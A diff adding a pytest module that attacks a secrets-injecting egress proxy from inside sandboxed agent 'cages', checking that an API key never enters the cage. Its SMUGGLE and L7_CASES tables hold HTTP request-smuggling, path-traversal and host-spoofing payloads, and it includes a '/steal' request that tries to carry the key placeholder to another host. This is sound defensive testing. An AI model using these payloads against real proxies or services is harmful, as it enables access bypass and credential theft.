@@ -1,0 +1,447 @@
+"""Secrets never enter a cage (issue 16), attacked from inside real cages.
+
+A secret ``anthropic`` is bound (hive.toml ``[[secret_binding]]``) for agents rtsc and
+rtcc to ``api.anthropic.com:443``, header ``x-api-key: {}``, env ``ANTHROPIC_API_KEY``.
+The proxy resolves api.anthropic.com, other.test and gh.test (``[egress] hosts``) to
+HTTPS servers in a test network namespace (198.18.53.0/24): the Messages API stand-in
+(tests/fake_anthropic.py), certificates from a test CA the proxy trusts through
+``[egress] upstream_ca``. Each server notes what key each request carried (never the
+key itself). rtsc may also reach other.test:443, and gh.test only by the L7 rule
+``GET gh.test:443/repos/acme/*``.
+
+The end-to-end case runs the real Claude Code CLI in rtcc's cage: its turn goes to
+"api.anthropic.com" through the proxy with TLS terminated, the stand-in checks the key,
+the model's tool call reaches the hive, and the key is nowhere in the cage.
+"""
+
+from __future__ import annotations
+
+import datetime
+import json
+import os
+import shutil
+import stat
+import subprocess
+import sys
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec
+from cryptography.x509.oid import NameOID
+
+from helpers import assert_ok
+from hive_fixture import VENV_BIN, HiveProcess, probe_result, running_hive, wait_until
+from hyperhive.client import Client
+from testnet import TestNet
+
+KEY = "sk-ant-api03-REAL-" + "k3y" * 10
+AGENT, CLAUDE = "rtsc", "rtcc"
+NET = TestNet(53, prefix="hvsc")
+ANTH, OTHER, GH = NET.address(2), NET.address(3), NET.address(4)
+HOSTS = {"api.anthropic.com": ANTH, "other.test": OTHER, "gh.test": GH}
+FAKE = Path(__file__).resolve().parent.parent / "fake_anthropic.py"
+ENV_FILE = "turn-env.json"
+MODEL = "claude-sonnet-4-5"
+ACTIONS = [["mcp__hive__send_message", {"to": "operator", "body": "hello through the egress proxy"}]]
+TEST_CA: dict[str, str] = {}
+BINDING = """
+[[secret_binding]]
+secret = "anthropic"
+agents = ["rtsc", "rtcc"]
+to = "api.anthropic.com:443"
+header = "x-api-key: {}"
+env = "ANTHROPIC_API_KEY"
+"""
+
+
+def _cert(subject: str, key: ec.EllipticCurvePrivateKey, issuer: x509.Certificate | None,
+          issuer_key: ec.EllipticCurvePrivateKey, sans: list[str] | None) -> x509.Certificate:
+    now = datetime.datetime.now(datetime.UTC)
+    b = (x509.CertificateBuilder()
+         .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
+         .issuer_name(issuer.subject if issuer else x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
+         .public_key(key.public_key()).serial_number(x509.random_serial_number())
+         .not_valid_before(now - datetime.timedelta(hours=1)).not_valid_after(now + datetime.timedelta(days=2))
+         .add_extension(x509.BasicConstraints(ca=sans is None, path_length=None), critical=True))
+    if sans:
+        b = b.add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in sans]), critical=False)
+    return b.sign(issuer_key, hashes.SHA256())
+
+
+def _pem(key: ec.EllipticCurvePrivateKey) -> bytes:
+    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                             serialization.NoEncryption())
+
+
+@pytest.fixture(scope="module")
+def certs() -> Iterator[Path]:
+    d = Path(tempfile.mkdtemp(prefix="hvsc", dir="/tmp"))
+    os.chmod(d, 0o755)
+    ca_key, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())
+    ca = _cert("test upstream CA", ca_key, None, ca_key, None)
+    leaf = _cert("test servers", key, ca, ca_key, list(HOSTS))
+    (d / "ca.pem").write_bytes(ca.public_bytes(serialization.Encoding.PEM))
+    TEST_CA["pem"] = ca.public_bytes(serialization.Encoding.PEM).decode()
+    (d / "server.pem").write_bytes(_pem(key) + leaf.public_bytes(serialization.Encoding.PEM))
+    os.chmod(d / "ca.pem", 0o644)
+    yield d
+    shutil.rmtree(d, ignore_errors=True)
+
+
+@pytest.fixture(scope="module")
+def net(certs: Path) -> Iterator[TestNet]:
+    with NET as n:
+        for address in (ANTH, OTHER, GH):
+            actions = json.dumps(ACTIONS if address == ANTH else [])
+            n.serve(address, 443, [sys.executable, str(FAKE), address, "443", str(certs / "server.pem"), "-" if address == GH else KEY,
+                                   str(certs / f"seen-{address}.jsonl"), actions])
+        yield n
+
+
+def seen(certs: Path, address: str) -> list[dict[str, Any]]:
+    path = certs / f"seen-{address}.jsonl"
+    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
+
+
+@pytest.fixture(scope="module")
+def hive(net: TestNet, certs: Path) -> Iterator[HiveProcess]:
+    agents = {
+        AGENT: {"runtime": "command",
+                "command": ["python3", "-c", f"import json, os; json.dump(dict(os.environ), open({ENV_FILE!r}, 'w'))"],
+                "egress": ["api.anthropic.com:443", f"{ANTH}:443", "other.test:443", f"{OTHER}:443",
+                           "GET gh.test:443/repos/acme/*", f"{GH}:443"]},
+        CLAUDE: {"runtime": "claude", "model": MODEL, "peers": [], "egress": ["api.anthropic.com:443", f"{ANTH}:443"]},
+    }
+    h = HiveProcess(agents, sections={"egress": {"hosts": HOSTS, "upstream_ca": str(certs / "ca.pem")}})
+    h.config_path.write_text(h.config_path.read_text() + BINDING)
+    h.write_config = lambda agents: None  # type: ignore[method-assign]  # keep the binding on restarts
+    for hv in running_hive(h):
+        assert_ok(hv.host_call("secret_set", name="anthropic", value=KEY))
+        yield hv
+
+
+@pytest.fixture(scope="module")
+def placeholder(hive: HiveProcess) -> str:
+    """The placeholder as rtsc's runtime sees it (its turn writes its environment)."""
+    assert_ok(hive.host_call("send", to=AGENT, body="env please"))
+    env_file = hive.home(AGENT) / ENV_FILE
+    wait_until(env_file.exists, 60, "rtsc's turn to write its environment")
+    env = wait_until(lambda: _json(env_file), 10, "the environment file")
+    value = env["ANTHROPIC_API_KEY"]
+    assert value.startswith("hive-placeholder-") and KEY not in json.dumps(env)
+    assert env["SSL_CERT_FILE"] == "/run/hive/ca-bundle.pem" and env["NODE_EXTRA_CA_CERTS"] == "/run/hive/hive-ca.pem"
+    return str(value)
+
+
+def _json(path: Path) -> Any:
+    try:
+        return json.loads(path.read_text())
+    except ValueError:
+        return None
+
+
+# In the cage: each case is [host, sni, raw request bytes (latin-1)]; one connection each,
+# CONNECT host:443, TLS with the cage's trust (the bundle in SSL_CERT_FILE), the request,
+# then everything read until the proxy closes.
+TUNNEL = """
+import ssl
+def tunnel(host, sni, raw):
+    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+    s.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n\\r\\n".encode())
+    head = b""
+    while b"\\r\\n\\r\\n" not in head:
+        chunk = s.recv(4096)
+        if not chunk:
+            return {"connect": head.decode(errors="replace")}
+        head += chunk
+    if not head.startswith(b"HTTP/1.1 200"):
+        return {"connect": head.decode(errors="replace")}
+    try:
+        ctx = ssl.create_default_context(cafile="/run/hive/ca-bundle.pem")
+        ctx.load_verify_locations(cadata=P["test_ca"])  # a tunnelled test server's own CA
+        t = ctx.wrap_socket(s, server_hostname=sni)
+    except (ssl.SSLError, OSError) as e:
+        return {"tls": type(e).__name__ + ": " + str(e)}
+    t.sendall(raw.encode("latin-1"))
+    out = b""
+    while True:
+        try:
+            chunk = t.recv(65536)
+        except (OSError, ssl.SSLError):
+            break
+        if not chunk:
+            break
+        out += chunk
+    status = out.split(b" ", 2)[1].decode() if out.startswith(b"HTTP/1.1 ") else "0"
+    return {"status": int(status), "body": out.partition(b"\\r\\n\\r\\n")[2].decode(errors="replace"),
+            "raw": out.decode(errors="replace")}
+result(**{k: tunnel(*v) for k, v in P["cases"].items()})
+"""
+
+
+def tunnels(hive: HiveProcess, cases: dict[str, tuple[str, str, str]]) -> dict[str, dict[str, Any]]:
+    return probe_result(hive.probe(AGENT, TUNNEL, timeout=120, cases={k: list(v) for k, v in cases.items()},
+                                   test_ca=TEST_CA["pem"]))
+
+
+def get(path: str, host: str, *headers: str, method: str = "GET") -> str:
+    return "".join([f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n", *(h + "\r\n" for h in headers),
+                    "Connection: close\r\n\r\n"])
+
+
+def refusals(hive: HiveProcess) -> list[str]:
+    reply = assert_ok(hive.host_call("egress_log", name=AGENT, limit=500))
+    return [e["reason"] for e in reply["entries"] if not e["allowed"]]
+
+
+SMUGGLE = {
+    "cl-te": "POST /v1/a HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 5\r\n"
+             "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/smuggled HTTP/1.1\r\nHost: api.anthropic.com\r\n\r\n",
+    "two-cl": "POST /v1/b HTTP/1.1\r\nHost: api.anthropic.com\r\nContent-Length: 3\r\nContent-Length: 3\r\n\r\nabc",
+    "obs-fold": "GET /v1/c HTTP/1.1\r\nHost: api.anthropic.com\r\nX-A: 1\r\n x-api-key: {p}\r\n\r\n",
+    "bare-lf": "GET /v1/d HTTP/1.1\nHost: api.anthropic.com\n\n",
+    "te-obfuscated": "POST /v1/e HTTP/1.1\r\nHost: api.anthropic.com\r\nTransfer-Encoding: xchunked\r\n\r\n",
+}
+L7_CASES = {
+    "allowed": ("gh.test", "gh.test", get("/repos/acme/widget?x=1", "gh.test")),
+    "allowed-trailing-dot": ("gh.test.", "gh.test", get("/repos/acme/w2", "GH.test.")),
+    "other-path": ("gh.test", "gh.test", get("/repos/evil/x", "gh.test")),
+    "prefix": ("gh.test", "gh.test", get("/repos/acmeevil", "gh.test")),
+    "method": ("gh.test", "gh.test", get("/repos/acme/x", "gh.test", method="DELETE")),
+    "lower-method": ("gh.test", "gh.test", get("/repos/acme/x", "gh.test", method="get")),
+    "dotdot-encoded": ("gh.test", "gh.test", get("/repos/acme/%2e%2e/%2e%2e/admin", "gh.test")),
+    "dotdot": ("gh.test", "gh.test", get("/repos/acme/../../admin", "gh.test")),
+    "double-slash": ("gh.test", "gh.test", get("//repos/acme/x", "gh.test")),
+    "semicolon": ("gh.test", "gh.test", get("/repos/acme;/../admin", "gh.test")),
+    "encoded-slash": ("gh.test", "gh.test", get("/repos/acme%2f..%2fadmin", "gh.test")),
+    "absolute-form": ("gh.test", "gh.test", get("https://gh.test/admin", "gh.test")),
+}
+
+
+@pytest.fixture(scope="module")
+def res(hive: HiveProcess, placeholder: str) -> dict[str, dict[str, Any]]:
+    """Every tunnelled case of this module, from one probe in rtsc's cage (one connection each)."""
+    key = f"x-api-key: {placeholder}"
+    first = f"GET /v1/first HTTP/1.1\r\nHost: api.anthropic.com\r\n{key}\r\n\r\n"
+    cases = {
+        # the placeholder: swapped at the bound destination only
+        "bound": ("api.anthropic.com", "api.anthropic.com", get("/v1/models", "api.anthropic.com", key)),
+        "bound-trailing-dot": ("api.anthropic.com.", "api.anthropic.com", get("/v1/m2", "API.anthropic.com.", key)),
+        "other-host": ("other.test", "other.test", get("/steal", "other.test", key)),
+        "other-header": ("api.anthropic.com", "api.anthropic.com",
+                         get("/v1/bearer", "api.anthropic.com", f"Authorization: Bearer {placeholder}")),
+        # SNI and Host
+        "sni-other": ("api.anthropic.com", "other.test", get("/sni", "api.anthropic.com", key)),
+        "host-other": ("api.anthropic.com", "api.anthropic.com", get("/host", "other.test", key)),
+        "host-other-port": ("api.anthropic.com", "api.anthropic.com", get("/port", "api.anthropic.com:8443", key)),
+        # smuggling and pipelining
+        **{k: ("api.anthropic.com", "api.anthropic.com", v.replace("{p}", placeholder)) for k, v in SMUGGLE.items()},
+        "pipelined": ("api.anthropic.com", "api.anthropic.com", first + get("/v1/second", "api.anthropic.com", key)),
+        **L7_CASES,
+    }
+    return tunnels(hive, cases)
+
+
+@pytest.mark.attack("secrets.placeholder-elsewhere", ref="issue 16 item 3; NVIDIA/NemoClaw#4825")
+def test_the_key_goes_only_to_the_bound_destination(res: dict[str, dict[str, Any]], certs: Path) -> None:
+    assert res["bound"]["status"] == 200 and json.loads(res["bound"]["body"]) == {"path": "/v1/models"}, res
+    assert res["bound-trailing-dot"]["status"] == 200, res
+    # Elsewhere the placeholder went out unchanged: worthless (the server refused it).
+    assert res["other-host"]["status"] == 401 and res["other-header"]["status"] == 401, res
+    anth = {s["path"]: s for s in seen(certs, ANTH)}
+    assert anth["/v1/models"]["key_ok"] and anth["/v1/m2"]["key_ok"]
+    assert anth["/v1/bearer"]["key_ok"] is False and anth["/v1/bearer"]["placeholder"] is True
+    [other] = [s for s in seen(certs, OTHER) if s["path"] == "/steal"]
+    assert other["key_ok"] is False and other["placeholder"] is True
+    assert all(KEY not in json.dumps(r) for r in res.values())
+
+
+@pytest.mark.attack("egress.tls-sni-host", ref="issue 16 item 3; srt requireHostMatch; e2b-dev/infra#1597")
+def test_sni_and_host_must_name_the_destination(res: dict[str, dict[str, Any]], hive: HiveProcess,
+                                                certs: Path) -> None:
+    assert "tls" in res["sni-other"], res  # the handshake itself fails
+    for case in ("host-other", "host-other-port"):
+        assert res[case]["status"] == 403 and "the destination of this tunnel" in res[case]["body"], res
+    paths = {s["path"] for s in seen(certs, ANTH) + seen(certs, OTHER)}
+    assert not paths & {"/sni", "/host", "/port"}  # nothing reached a server
+    logged = refusals(hive)
+    assert any("SNI must be api.anthropic.com" in r for r in logged), logged
+
+
+@pytest.mark.attack("egress.request-smuggling", ref="issue 16 item 7; RFC 9112 11.2 (CL/TE, pipelining)")
+def test_smuggling_and_pipelining_are_refused(res: dict[str, dict[str, Any]], hive: HiveProcess,
+                                              certs: Path) -> None:
+    for k in SMUGGLE:
+        assert res[k]["status"] == 400, (k, res[k])
+    assert res["pipelined"]["raw"].count("HTTP/1.1 200") == 1, res["pipelined"]
+    paths = [s["path"] for s in seen(certs, ANTH)]
+    assert "/v1/first" in paths
+    for never in ("/v1/smuggled", "/v1/second", "/v1/a", "/v1/b", "/v1/c", "/v1/d", "/v1/e"):
+        assert never not in paths, (never, paths)
+    assert any("pipelined request" in r for r in refusals(hive))
+
+
+@pytest.mark.attack("egress.l7-bypass", ref="issue 16 item 4; OpenShell L7 e2e; CVE-2021-41773 (%2e%2e)")
+def test_l7_rules_hold_against_path_and_host_tricks(res: dict[str, dict[str, Any]], hive: HiveProcess,
+                                                    certs: Path) -> None:
+    assert res["allowed"]["status"] == 200 and json.loads(res["allowed"]["body"])["path"] == "/repos/acme/widget?x=1"
+    assert res["allowed-trailing-dot"]["status"] == 200, res
+    for case in ("other-path", "prefix", "method", "lower-method"):
+        assert res[case]["status"] == 403 and "no egress rule allows" in res[case]["body"], (case, res[case])
+    for case in ("dotdot-encoded", "dotdot", "double-slash", "semicolon", "encoded-slash", "absolute-form"):
+        assert res[case]["status"] == 400, (case, res[case])
+    paths = {s["path"] for s in seen(certs, GH)}
+    assert paths == {"/repos/acme/widget?x=1", "/repos/acme/w2"}, paths
+    logged = refusals(hive)
+    assert "no egress rule allows GET gh.test:443/repos/evil/x (rules for it: GET gh.test:443/repos/acme/*);" \
+           " ask for one with request_approval kind=egress" in logged
+
+
+VALUE = "sk-ant-verbtest-0123456789abcdef"
+
+
+def hive_cli(hive: HiveProcess, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([str(VENV_BIN / "hive"), "--run-dir", str(hive.run_dir), *args], input=stdin,
+                          capture_output=True, text=True, timeout=30, check=False)
+
+
+def agent_call(hive: HiveProcess, agent: str, cmd: str, **fields: Any) -> dict[str, Any]:
+    with Client(hive.agent_sock(agent), timeout=10) as c:
+        return c.call(cmd, **fields)
+
+
+@pytest.mark.attack("secrets.store", ref="issue 16 item 1; NVIDIA/NemoClaw#4825")
+def test_secret_set_ls_rm_never_show_the_value(hive: HiveProcess) -> None:
+    core = hive
+    proc = hive_cli(core, "secret", "set", "verbtest", stdin=VALUE + "\n")  # never argv
+    assert proc.returncode == 0 and proc.stdout.strip() == "secret verbtest set", proc
+    assert assert_ok(core.host_call("secret_set", name="verbtest", value=VALUE))["new"] is False
+    # kept 0600 in a 0700 directory beside the database, one trailing newline dropped
+    path = core.state_dir / "secrets" / "verbtest"
+    assert path.read_text() == VALUE
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and stat.S_IMODE(path.parent.stat().st_mode) == 0o700
+    assert stat.S_IMODE((core.state_dir / "ca" / "ca.key").stat().st_mode) == 0o600
+
+    bind = assert_ok(core.host_call(
+        "secret_bind", name="verbtest", agents=[AGENT, CLAUDE], to="Other.TEST.:443",
+        header="Authorization: Bearer {}", env="OTHER_TOKEN"))
+    assert bind["to"] == "other.test:443"
+    listing = assert_ok(core.host_call("secret_ls"))
+    [row] = [s for s in listing["secrets"] if s["name"] == "verbtest"]
+    assert row["set"] is True and row["set_at"].endswith("Z")
+    assert [(b["agent"], b["to"], b["header"], b["env"]) for b in row["bindings"]] == [
+        (CLAUDE, "other.test:443", "Authorization: Bearer {}", "OTHER_TOKEN"),
+        (AGENT, "other.test:443", "Authorization: Bearer {}", "OTHER_TOKEN"),
+    ]
+    for out in (listing, proc.stdout, bind, core.log_tail(400)):
+        assert VALUE not in json.dumps(out)
+
+    assert assert_ok(core.host_call("secret_unbind", name="verbtest", agents=[CLAUDE]))["removed"] == 1
+    assert_ok(core.host_call("secret_rm", name="verbtest"))
+    assert not path.exists()
+    gone = core.host_call("secret_rm", name="verbtest")
+    assert gone == {"version": 1, "ok": False, "error": "no secret named 'verbtest'"}
+
+
+@pytest.mark.attack("secrets.store", ref="issue 16 item 1")
+@pytest.mark.parametrize(("fields", "error"), [
+    ({"name": "x", "value": "a\nb"}, "printable ASCII"),
+    ({"name": "x", "value": ""}, "empty"),
+    ({"name": "x", "value": "k" * 20000}, "over 16384 bytes"),
+    ({"name": "../x", "value": "v"}, "field 'name'"),
+])
+def test_a_bad_secret_is_refused_in_one_line_without_its_value(
+    hive: HiveProcess, fields: dict[str, Any], error: str,
+) -> None:
+    reply = hive.host_call("secret_set", **fields)
+    assert reply["ok"] is False and error in reply["error"], reply
+    assert fields["value"][:8] not in reply["error"] or not fields["value"]
+    assert not (hive.state_dir / "secrets" / "x").exists()
+
+
+@pytest.mark.attack("secrets.store", ref="issue 16 item 2")
+@pytest.mark.parametrize(("fields", "error"), [
+    ({"to": "10.0.0.1:443"}, "NAME:PORT"),
+    ({"to": "api.anthropic.com"}, "HOST:PORT"),
+    ({"header": "x-api-key: nothing"}, "exactly one {}"),
+    ({"header": "Host: {}"}, "cannot go in the 'host' header"),
+    ({"env": "PATH"}, "reserved"),
+    ({"agents": ["zed"]}, "no agent named 'zed'"),
+])
+def test_a_bad_binding_is_refused_and_changes_nothing(
+    hive: HiveProcess, fields: dict[str, Any], error: str,
+) -> None:
+    req = {"name": "tok", "agents": [AGENT], "to": "other.test:443", "header": "x-api-key: {}", **fields}
+    reply = hive.host_call("secret_bind", **req)
+    assert reply["ok"] is False and error in reply["error"], reply
+    assert all(s["name"] != "tok" for s in assert_ok(hive.host_call("secret_ls"))["secrets"])
+
+
+@pytest.mark.attack("identity.forge-operator", ref="issue 16 item 1 (operator verbs only)")
+def test_secret_verbs_do_not_exist_on_agent_sock(hive: HiveProcess) -> None:
+    for cmd, fields in [("secret_set", {"name": "x", "value": "v"}), ("secret_ls", {}),
+                        ("secret_bind", {"name": "x"}), ("secret_rm", {"name": "x"})]:
+        reply = agent_call(hive, AGENT, cmd, **fields)
+        assert reply == {"version": 1, "ok": False, "error": f"unknown command {cmd!r}"}
+
+
+@pytest.mark.attack("secrets.read-from-cage", ref="issue 16 item 7; NVIDIA/NemoClaw#4825; typeclaw PR#707")
+def test_the_real_claude_cli_runs_a_turn_and_the_cage_never_holds_the_key(
+    hive: HiveProcess, certs: Path, placeholder: str,
+) -> None:
+    """Claude Code in a cage, its key a placeholder: the turn goes to api.anthropic.com
+    through the proxy (TLS terminated, key swapped in), the model's tool call reaches
+    the hive; then the key is looked for everywhere the cage can read."""
+    row = hive.agent_status()[CLAUDE]
+    assert row["needs_login"] is False, row  # a binding for api.anthropic.com:443 is a login
+    assert_ok(hive.host_call("send", to=CLAUDE, body="Say hello to the operator."))
+
+    def delivered() -> list[dict[str, Any]] | None:
+        msgs = [m for m in assert_ok(hive.host_call("inbox"))["messages"] if m["from"] == CLAUDE]
+        return msgs or None
+
+    try:
+        [msg] = wait_until(delivered, 120, "the claude agent's message to the operator", interval=0.3)
+    except AssertionError:
+        entries = assert_ok(hive.host_call("transcript", name=CLAUDE))["entries"]
+        raise AssertionError(f"transcript: {json.dumps(entries)[-3000:]}\nlog:\n{hive.log_tail()}") from None
+    assert msg["body"] == "hello through the egress proxy"
+    calls = [s for s in seen(certs, ANTH) if s["path"].startswith("/v1/messages")]
+    assert calls and all(s["key_ok"] for s in calls), calls
+    # Nowhere in the cage: not the runtime's env, not any process's, not the home, not /run/hive.
+    res = probe_result(hive.probe(CLAUDE, """
+        found = []
+        for pid in os.listdir("/proc"):
+            if pid.isdigit():
+                for f in ("environ", "cmdline"):
+                    try:
+                        if P["key"].encode() in open(f"/proc/{pid}/{f}", "rb").read():
+                            found.append(f"/proc/{pid}/{f}")
+                    except OSError:
+                        pass
+        for top in (os.environ["HOME"], "/run/hive", "/tmp"):
+            for d, _, files in os.walk(top):
+                for n in files:
+                    try:
+                        if P["key"].encode() in open(os.path.join(d, n), "rb").read():
+                            found.append(os.path.join(d, n))
+                    except OSError:
+                        pass
+        result(found=found, env=P["key"] in json.dumps(dict(os.environ)),
+               run_hive=sorted(os.listdir("/run/hive")))
+    """, key=KEY))
+    assert res["found"] == [] and res["env"] is False, res
+    assert res["run_hive"] == ["agent.sock", "ca-bundle.pem", "egress.sock", "hive-ca.pem"], res
+    for home in (hive.home(CLAUDE), hive.home(AGENT)):  # as root, the whole tree
+        for d, _, files in os.walk(home):
+            for n in files:
+                p = Path(d) / n
+                if p.is_file() and not p.is_symlink():
+                    assert KEY.encode() not in p.read_bytes(), p
+    entries = assert_ok(hive.host_call("transcript", name=CLAUDE))["entries"]
+    assert KEY not in json.dumps(entries) and KEY not in hive.log_tail(2000)
